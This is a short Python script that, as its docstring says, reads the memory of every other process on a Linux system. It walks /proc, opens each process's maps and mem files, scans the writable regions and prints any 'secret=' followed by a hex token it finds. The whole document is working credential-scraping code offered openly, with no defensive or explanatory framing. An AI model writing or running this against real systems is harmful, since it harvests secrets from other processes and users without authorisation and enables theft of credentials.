"""Read the memory of every other process, and show what stands behind the word for a secret."""

import os
import re

for number in filter(str.isdigit, os.listdir("/proc")):
    if int(number) == os.getpid():
        continue
    try:
        with open(f"/proc/{number}/maps") as maps, open(f"/proc/{number}/mem", "rb", buffering=0) as memory:
            for line in maps:
                start, end = (int(part, 16) for part in line.split()[0].split("-"))
                if "rw" in line.split()[1] and end - start < 64 << 20:
                    memory.seek(start)
                    for found in re.findall(rb"secret=[0-9a-f]{16,64}", memory.read(end - start))[:3]:
                        print(number, found)
    except (OSError, ValueError, OverflowError):
        continue
